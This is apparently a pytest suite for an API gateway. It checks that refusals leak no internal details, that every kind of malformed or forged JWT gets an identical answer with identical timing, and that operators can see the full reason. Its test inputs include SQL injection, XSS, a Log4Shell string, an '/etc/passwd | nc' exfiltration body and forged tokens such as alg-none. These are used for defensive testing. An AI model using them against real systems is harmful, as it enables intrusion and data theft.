"""No refusal tells more than its code: the operator finds the reason by the request's id."""

import asyncio
import base64
import json
import re
import socket
import time
from collections.abc import Callable, Iterator

import jwt
import pytest

from tests.openresty.gateway import ROOT, Gateway, free_port
from tests.openresty.issuer import ISSUER, Issuer, Key
from tests.security.gateway.conftest import IMPATIENT, StartGateway
from tests.security.gateway.recorder import Recorder
from tests.security.gateway.wire import Answer, Connection, check_refusal, exchange, request

JSON = b"Content-Type: application/json"
FIELDS = {
    "server", "date", "content-type", "content-length", "connection", "cache-control",
    "content-security-policy", "x-request-id", "x-content-type-options", "referrer-policy",
    "www-authenticate", "retry-after", "ratelimit", "ratelimit-policy", "allow", "accept",
    "accept-post", "accept-patch", "accept-encoding",
}  # fmt: skip
# Names of rules, claims and programs, versions, paths, addresses.
SECRETS = re.compile(
    r"\b9[0-9]{5}\b|rule|score|threshold|sqli|xss|injection|libinj|modsec"
    r"|\bkid\b|\baud\b|\biss\b|\bjti\b|\bexp\b|\bnbf\b|\biat\b|\bsub\b|claim|signature|RS512|issuer"
    r"|nginx/|openresty|lua|redis|python|hypercorn|quart|traceback|stack|0x[0-9a-f]{4}"
    r"|\b[0-9]+\.[0-9]+\.[0-9]+|127\.0|localhost|upstream_addr|/tmp|/home|/usr|/etc|\.json\b",
    re.IGNORECASE,
)


def ask(gateway: Gateway, sent: bytes) -> Answer:
    answer = asyncio.run(exchange(gateway.port, sent))
    assert answer is not None
    return answer


def bearer(token: str | bytes) -> bytes:
    return b"Authorization: Bearer " + (token.encode() if isinstance(token, str) else token)


def get(*lines: bytes, target: bytes = b"/api/users") -> bytes:
    return request(b"GET", target, *lines)


REFUSALS: dict[str, list[bytes]] = {
    "not_found": [get(target=b"/nowhere"), get(target=b"/metrics"), get(target=b"/.refusal")],
    "method_not_allowed": [
        request(b"PUT", b"/api/users"),
        request(b"TRACE", b"/api/users"),
        request(b"BREW", b"/api/users"),
    ],
    "unsupported_media_type": [
        request(b"POST", b"/api/users", b"Content-Type: text/plain", body=b"a"),
        request(b"POST", b"/api/users", JSON, b"Content-Encoding: gzip", body=b"a"),
        request(
            b"POST", b"/api/users", b"Content-Type: application/json; charset=utf-7", body=b"0"
        ),
    ],
    "payload_too_large": [
        request(b"POST", b"/api/users", JSON, b"Content-Length: 999999999"),
        request(b"POST", b"/api/users", JSON, body=b"a" * 300_000),
    ],
    "uri_too_long": [get(target=b"/api/users?q=" + b"a" * 9000), get(target=b"/" + b"a" * 30000)],
    "headers_too_large": [get(b"X-Long: " + b"a" * 13000), get(b"X-Long: " + b"a" * 40000)],
    "invalid_request": [
        get(target=b"/%zz"),
        get(target=b"/a/%2e%2e/b"),
        get(target=b"/api/users?limit=x"),
        get(target=b"/api/users?nowhere=1"),
        get(b"Host: twice"),
        b"GET /\x00 HTTP/1.1\r\n\r\n",
        b"GARBAGE\r\n\r\n",
        request(b"POST", b"/api/users", JSON, body=b"{"),
        request(b"POST", b"/api/users", JSON, b"Transfer-Encoding: x"),
        request(b"POST", b"/api/users", JSON, b"Transfer-Encoding: chunked") + b"x\r\n",
        get(bearer("a b")),
    ],
    "request_blocked": [
        get(target=b"/api/users?q=%27%20OR%201%3D1%20UNION%20SELECT%20password%20FROM%20users--"),
        get(target=b"/api/users?q=%3Cscript%3Ealert(1)%3C/script%3E"),
        request(b"POST", b"/api/users", JSON, body=b'{"a":"1; cat /etc/passwd | nc x 1"}'),
        get(b"User-Agent: ${jndi:ldap://x.test/a}"),
    ],
    "request_timeout": [request(b"POST", b"/api/users", JSON, b"Content-Length: 5")],
    "unauthorized": [get(), get(b"Authorization: Basic YTpi")],
}


def check_secrets(answer: Answer, *more: str) -> None:
    """In all of the answer but its id and date."""
    check_refusal(answer)
    check_words(answer, *more)


def check_words(answer: Answer, *more: str) -> None:
    assert set(answer.fields) <= FIELDS
    assert answer.fields["server"] in ("nginx", "openresty")
    shown = {
        name: value
        for name, value in answer.fields.items()
        if name not in ("x-request-id", "date", "server", "accept-post", "content-type")
    }
    body = answer.json()
    body.pop("request_id")
    told = json.dumps([shown, body])
    assert not SECRETS.search(told), told
    for word in (str(ROOT), *more):
        assert word not in told


@pytest.mark.parametrize(
    ("code", "sent"),
    [(code, sent) for code, each in REFUSALS.items() for sent in each],
    ids=lambda value: value if isinstance(value, str) else value[:60].decode("latin-1"),
)
def test_a_refusal_tells_its_code_only(
    gateway: Gateway, upstream: Recorder, code: str, sent: bytes
) -> None:
    answer = ask(gateway, sent)
    assert answer.code == code
    check_secrets(answer, str(gateway.run_dir), str(upstream.port))


def test_neither_does_a_refusal_for_want_of_a_scope(gateway: Gateway, issuer: Issuer) -> None:
    answer = ask(gateway, get(bearer(issuer.token("data:other"))))
    assert (answer.status, answer.code) == (403, "insufficient_scope")
    check_secrets(answer, "data:other", "tester")


def test_neither_does_a_limit(start_gateway: StartGateway) -> None:
    gateway = start_gateway(RATE_LIMIT_ADDRESS="1/3600s")
    codes = set()
    for _ in range(5):
        answer = ask(gateway, get(target=b"/identidock/"))
        if answer.status == 429:
            codes.add(answer.code)
            check_secrets(answer)
    assert codes == {"rate_limited"}


def test_neither_does_a_gateway_without_keys(start_gateway: StartGateway, issuer: Issuer) -> None:
    port = free_port()
    gateway = start_gateway(JWKS_URL=f"http://127.0.0.1:{port}/keys")
    answer = ask(gateway, get(bearer(issuer.token("data:read"))))
    assert (answer.status, answer.code) == (503, "temporarily_unavailable")
    check_words(answer, str(port))


def test_neither_does_one_whose_service_is_away(start_gateway: StartGateway) -> None:
    port = free_port()
    gateway = start_gateway(IDENTIDOCK_URL=f"http://127.0.0.1:{port}")
    answer = ask(gateway, get(target=b"/identidock/"))
    assert (answer.status, answer.code) == (502, "upstream_unavailable")
    check_words(answer, str(port))


def test_neither_does_one_whose_service_says_nothing(start_gateway: StartGateway) -> None:
    with socket.create_server(("127.0.0.1", 0)) as silent:  # connects, and is never accepted
        port = silent.getsockname()[1]
        gateway = start_gateway(IDENTIDOCK_URL=f"http://127.0.0.1:{port}", PROXY_READ_SECONDS="1")
        answer = ask(gateway, get(target=b"/identidock/"))
    assert (answer.status, answer.code) == (504, "upstream_timeout")
    check_words(answer, str(port))


def test_what_a_service_says_that_is_no_answer_goes_no_further(
    start_gateway: StartGateway, upstream: Recorder
) -> None:
    """nginx takes it for HTTP/0.9, in which there is no way to say 502."""
    gateway = start_gateway(PROXY_READ_SECONDS="1")
    upstream.answer = lambda _: b"\x00garbage\r\n\r\n"
    try:
        assert asyncio.run(exchange(gateway.port, get(target=b"/identidock/"))) is None
    finally:
        upstream.answer = None


@pytest.mark.parametrize("host", [b"unknown.test", b"127.0.0.1", b"_", b"localhost", b"[::1]:80"])
def test_an_unknown_host_learns_nothing_else(gateway: Gateway, host: bytes) -> None:
    known = ask(gateway, request(b"GET", b"/nowhere"))
    unknown = ask(gateway, request(b"GET", b"/nowhere", host=host))
    assert form(unknown) == form(known)


# Tokens, each with one fault.


def signed(key: Key, header: dict[str, object], payload: dict[str, object] | None = None) -> str:
    """A token whose header is `header`, for that of a valid one."""
    claims = payload or jwt.decode(key.token("data:read"), options={"verify_signature": False})
    whole: dict[str, object] = {"typ": "at+jwt", "kid": key.kid} | header
    given = {name: value for name, value in whole.items() if value is not None}
    return jwt.encode(claims, key.private, algorithm="RS512", headers=given)


def unsigned(issuer: Issuer) -> str:
    header = base64.urlsafe_b64encode(b'{"alg":"none","typ":"at+jwt","kid":"k1"}').rstrip(b"=")
    return header.decode() + "." + issuer.token("data:read").split(".")[1] + "."


def forged(issuer: Issuer) -> str:
    head, payload, signature = issuer.token("data:read").split(".")
    return f"{head}.{payload}.{signature[::-1]}"


FAULTS: dict[str, Callable[[Issuer], str]] = {
    "signed by nobody": unsigned,
    "a signature that is none": forged,
    "signed by another key of the same name": lambda _: Key("k1").token("data:read"),
    "an unknown key": lambda _: Key("unknown").token("data:read"),
    "another issuer": lambda issuer: issuer.token("data:read", iss=ISSUER + "/"),
    "another audience": lambda issuer: issuer.token("data:read", audience="identidock"),
    "no subject": lambda issuer: issuer.token("data:read", sub=None),
    "no client": lambda issuer: issuer.token("data:read", client_id=None),
    "no expiry": lambda issuer: issuer.token("data:read", exp=None),
    "an expiry that is text": lambda issuer: issuer.token("data:read", exp="9999999999"),
    "not yet valid": lambda issuer: issuer.token("data:read", nbf=int(time.time()) + 3600),
    "issued in the future": lambda issuer: issuer.token("data:read", iat=int(time.time()) + 3600),
    "another type": lambda issuer: signed(issuer.key, {"typ": "JWT"}),
    "a critical extension": lambda issuer: signed(issuer.key, {"crit": ["x"], "x": 1}),
    "not a token": lambda _: "a.b.c",
    "one part": lambda _: "abc",
}


@pytest.fixture(scope="module")
def faulty(issuer: Issuer, gateway: Gateway) -> Iterator[dict[str, bytes]]:
    requests = {name: get(bearer(make(issuer))) for name, make in FAULTS.items()}
    for each in requests.values():
        ask(gateway, each)  # an unknown key is asked for once; from then on it is only unknown
    return requests


def form(answer: Answer) -> object:
    """All of an answer but what is new in each."""
    fields = {name: value for name, value in answer.fields.items() if name not in ("date",)}
    body = answer.json()
    assert fields.pop("x-request-id") == body.pop("request_id")
    return answer.status, fields, body, len(answer.body)


def test_all_faults_of_a_token_look_the_same(gateway: Gateway, faulty: dict[str, bytes]) -> None:
    answers = {name: ask(gateway, sent) for name, sent in faulty.items()}
    forms = {name: form(answer) for name, answer in answers.items()}
    reference = forms["a signature that is none"]
    assert {name for name, each in forms.items() if each != reference} == set()
    for answer in answers.values():
        assert (answer.status, answer.code) == (401, "invalid_token")
        check_secrets(answer)


def test_an_expired_token_is_told_apart_by_one_sentence_only(
    gateway: Gateway, issuer: Issuer, faulty: dict[str, bytes]
) -> None:
    """So that its honest owner fetches another one."""
    expired = ask(gateway, get(bearer(issuer.token("data:read", exp=int(time.time()) - 3600))))
    other = ask(gateway, faulty["a signature that is none"])
    assert (expired.status, expired.code) == (other.status, other.code)
    assert set(expired.fields) == set(other.fields)
    assert set(expired.json()) == set(other.json())


def test_an_expired_token_of_a_stranger_is_only_invalid(
    gateway: Gateway, faulty: dict[str, bytes]
) -> None:
    stranger = Key("k1").token("data:read", exp=int(time.time()) - 3600)
    other = ask(gateway, faulty["a signature that is none"])
    assert form(ask(gateway, get(bearer(stranger)))) == form(other)


async def quickest(gateway: Gateway, requests: dict[str, bytes], rounds: int) -> dict[str, float]:
    """Seconds of each one's quickest answer, taken in turns: what else is busy then cancels out."""
    best = dict.fromkeys(requests, 60.0)
    async with Connection(gateway.port) as connection:
        for _ in range(rounds):
            for name, sent in requests.items():
                begun = time.perf_counter()
                await connection.send(sent)
                assert await connection.answer()
                best[name] = min(best[name], time.perf_counter() - begun)
    return best


async def test_no_fault_takes_a_time_of_its_own(gateway: Gateway, faulty: dict[str, bytes]) -> None:
    """No fault is answered after a wait, a fetch or a pause that the others don't have."""
    best = await quickest(gateway, faulty, 60)
    assert max(best.values()) - min(best.values()) < 0.005, best


def test_what_the_operator_is_told_is_more(gateway: Gateway, issuer: Issuer) -> None:
    """Else the tests above would be about nothing."""
    answer = ask(gateway, get(target=b"/api/users?q=%3Cscript%3Ealert(1)%3C/script%3E"))
    admin = issuer.token("admin", audience="tokendealer")
    found = gateway.get(f"/api/gateway/decisions/{answer.json()['request_id']}", token=admin)
    assert found.status == 200
    assert found.json()["findings"][0]["detail"]["rules"]


@pytest.fixture(scope="module")
def gateway(start_gateway: StartGateway) -> Gateway:
    return start_gateway(**IMPATIENT)
